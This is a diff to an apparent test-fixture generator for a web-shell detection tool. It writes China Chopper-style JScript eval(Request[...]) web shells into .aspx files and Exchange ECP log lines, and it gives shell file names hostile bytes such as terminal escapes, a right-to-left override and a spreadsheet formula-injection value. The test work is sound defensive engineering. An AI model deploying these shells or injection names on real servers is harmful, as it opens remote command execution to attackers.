@@ -116,7 +116,8 @@ def main():
     # --- web shells whose names carry hostile bytes (a finding must escape them)
     names = [b"sh\nell" + ESC + b"[31m.aspx", b"=cmd|' \\C calc'!A0.aspx",
              b"bad\xff\xfe.aspx", b"t" + ESC + b"]0;pwned\x07.aspx",
-             b"<script>alert(1)<\\script>.aspx", b"\r+cr.aspx"]
+             b"<script>alert(1)<\\script>.aspx", b"\r+cr.aspx",
+             b"c1\xc2\x9b31m\xc2\x85\xe2\x80\xaexpsa.aspx"]  # C1 CSI, NEL, right-to-left override
     for i, n in enumerate(names):
         write(os.path.join(fsenc(web), n), CHOPPER)
     m["shell_names"] = [os.fsdecode(os.path.join(fsenc(web), n)) for n in names]
@@ -348,6 +349,23 @@ def flood(root, m):
                               "CommandLine": "cmd /c whoami %d" % i}).encode())
     write(os.path.join(root, "collected/Microsoft-Windows-Sysmon-Operational.jsonl"),
           b"\n".join(ev) + b"\n")
+    # 3,000 Set-OabVirtualDirectory lines, each with its own script, and
+    # 200 shells on disk of 100 KB: every shell was read again for every
+    # line (15 s for 300 shells); now once, for at most 64 scripts.
+    ecp = [b"#Software: Microsoft Exchange Server\r\n#Log-type: ECP Server Log\r\n"
+           b"#Fields: DateTime,ServerName,EventType,EventData\r\n"]
+    for i in range(3000):
+        t = b"2021-03-02T03:%02d:%02d.000Z" % (i // 60 % 60, i % 60)
+        ecp.append(t + b",EXCH,ECP.Request,\"S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/"
+                   b"<script language=\"\"JScript\"\" runat=\"\"server\"\">function Page_Load(){eval("
+                   b"Request[\"\"k%d\"\"],\"\"unsafe\"\");}</script>'.Identity='x'\"\r\n" % i)
+    write(os.path.join(root, "Program Files/Microsoft/Exchange Server/V15/Logging/ECP/Server/"
+                       "ECPServer20210302-1.LOG"), b"".join(ecp))
+    web = os.path.join(root, "inetpub/wwwroot/aspnet_client")
+    for i in range(200):
+        write(os.path.join(web, "k%d.aspx" % i),
+              b'<script language="JScript" runat="server">function Page_Load(){eval(Request["k%d"],'
+              b'"unsafe");}</script>' % i + b"\n" + b"A" * 100000)
     m["flood_root"] = root
 
 
